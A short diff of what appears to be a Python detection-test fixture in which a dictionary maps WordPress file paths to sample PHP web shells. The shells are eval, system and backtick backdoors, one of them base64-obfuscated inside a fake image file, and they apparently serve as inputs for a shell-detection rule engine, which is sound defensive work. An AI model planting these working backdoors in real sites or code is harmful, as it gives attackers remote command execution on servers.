@@ -18,7 +18,8 @@ from collectors.parsers import rules as engine
 
 SHELLS = {
     "/var/www/html/wp-content/uploads/2024/11/cache.php": "<?php @eval($_POST['z0']);?>",
-    "/var/www/html/wp-includes/class-wp-cache-helper.php": "<?php\nif(isset($_REQUEST['c'])){system($_REQUEST['c']);}\n",
+    "/var/www/html/wp-includes/class-wp-cache-helper.php":
+        "<?php\nif(isset($_REQUEST['c'])){system($_REQUEST['c']);}\n",
     "/var/www/html/.config.php": "<?php echo `$_GET[x]`; ?>",
     "/var/www/html/wp-admin/css/x.php": "<?php $a=$_GET['f']; $_GET['f']($_POST['d']); ?>",
     "/var/www/html/img/logo.php.png": "<?php eval(base64_decode('c3lzdGVtKCRfR0VUWydjJ10pOw=='));",
